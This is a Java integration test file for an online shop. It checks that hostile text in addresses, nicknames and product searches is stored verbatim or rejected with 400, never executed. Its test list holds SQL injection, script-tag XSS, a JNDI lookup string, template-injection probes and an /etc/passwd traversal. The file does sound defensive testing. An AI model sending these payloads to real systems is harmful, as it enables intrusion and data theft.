package it.shop;

import static it.shop.IdentityIT.assertProblem;
import static it.shop.RunningShop.json;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.junit.jupiter.api.Test;

import jakarta.json.Json;
import jakarta.json.JsonObject;

/**
 * Text a shopper types is data: SQL fragments, markup, emoji, mixed scripts and control
 * characters are stored and given back verbatim, or refused with 400; never a 500, never run.
 */
class HostileTextIT {

    static final List<String> HOSTILE = List.of(
            "Robert'); DROP TABLE account;--",
            "\" OR '1'='1' --",
            "<script>alert('x')</script><img src=x onerror=alert(1)>",
            "😀👍🏽 家 👨‍👩‍👧 𠜎",
            "Ελληνικά 中文 العربية עברית ру",
            "${jndi:ldap://example.invalid/x} %s %n {{7*7}}",
            "../../etc/passwd\\..\\",
            "line\nbreak\ttab\r");

    static String address(String receiver, String detail) {
        return Json.createObjectBuilder().add("receiver", receiver).add("phone", "13800000000").add("province", "浙江省")
                .add("city", "杭州市").add("district", "西湖区").add("detail", detail).build().toString();
    }

    @Test
    void an_address_keeps_hostile_text_verbatim() {
        Shopping shopper = Shopping.shopper();
        for (String text : HOSTILE) {
            HttpResponse<String> saved = shopper.post("/user/me/addresses", address(text, text + " 文三路 1 号"));
            assertEquals(201, saved.statusCode(), text + " → " + saved.body());
            String id = json(saved).getString("id");
            JsonObject read = RunningShop.parse(shopper.get("/user/me/addresses").body()).asJsonArray().stream()
                    .map(a -> a.asJsonObject()).filter(a -> a.getString("id").equals(id)).findFirst().orElseThrow();
            assertEquals(text, read.getString("receiver"));
            assertEquals(text + " 文三路 1 号", read.getString("detail"));
        }
    }

    @Test
    void a_nickname_keeps_hostile_text_verbatim() {
        Shopping shopper = Shopping.shopper();
        for (String text : HOSTILE) {
            HttpResponse<String> changed = IdentityIT.authorized("PATCH", "/user/me",
                    Json.createObjectBuilder().add("nickname", text).build().toString(), shopper.token());
            assertEquals(200, changed.statusCode(), text + " → " + changed.body());
            assertEquals(text, json(shopper.get("/user/me")).getString("nickname"));
        }
    }

    @Test
    void searches_for_hostile_text_answer_normally() {
        for (String text : HOSTILE) {
            HttpResponse<String> found = RunningShop.get(RunningShop.PUBLIC + "/search/products?q=" + URLEncoder.encode(text, StandardCharsets.UTF_8));
            assertTrue(found.statusCode() == 200 || found.statusCode() == 400, text + " → " + found.statusCode() + " " + found.body());
        }
    }

    @Test
    void nul_characters_and_overlong_text_are_refused_with_400() {
        Shopping shopper = Shopping.shopper();
        assertProblem(shopper.post("/user/me/addresses", address("a\u0000b", "文三路")), 400, "VALIDATION_FAILED");
        assertProblem(shopper.post("/user/me/addresses", address("x".repeat(65), "文三路")), 400, "VALIDATION_FAILED");
        assertProblem(IdentityIT.authorized("PATCH", "/user/me", Json.createObjectBuilder().add("nickname", "n\u0000").build().toString(),
                shopper.token()), 400, "VALIDATION_FAILED");
        assertProblem(IdentityIT.authorized("PATCH", "/user/me", Json.createObjectBuilder().add("nickname", "😀".repeat(40)).build().toString(),
                shopper.token()), 400, "VALIDATION_FAILED");
        HttpResponse<String> search = RunningShop.get(RunningShop.PUBLIC + "/search/products?q=" + URLEncoder.encode("a\u0000b", StandardCharsets.UTF_8));
        assertTrue(search.statusCode() == 200 || search.statusCode() == 400, search.statusCode() + " " + search.body());
    }
}
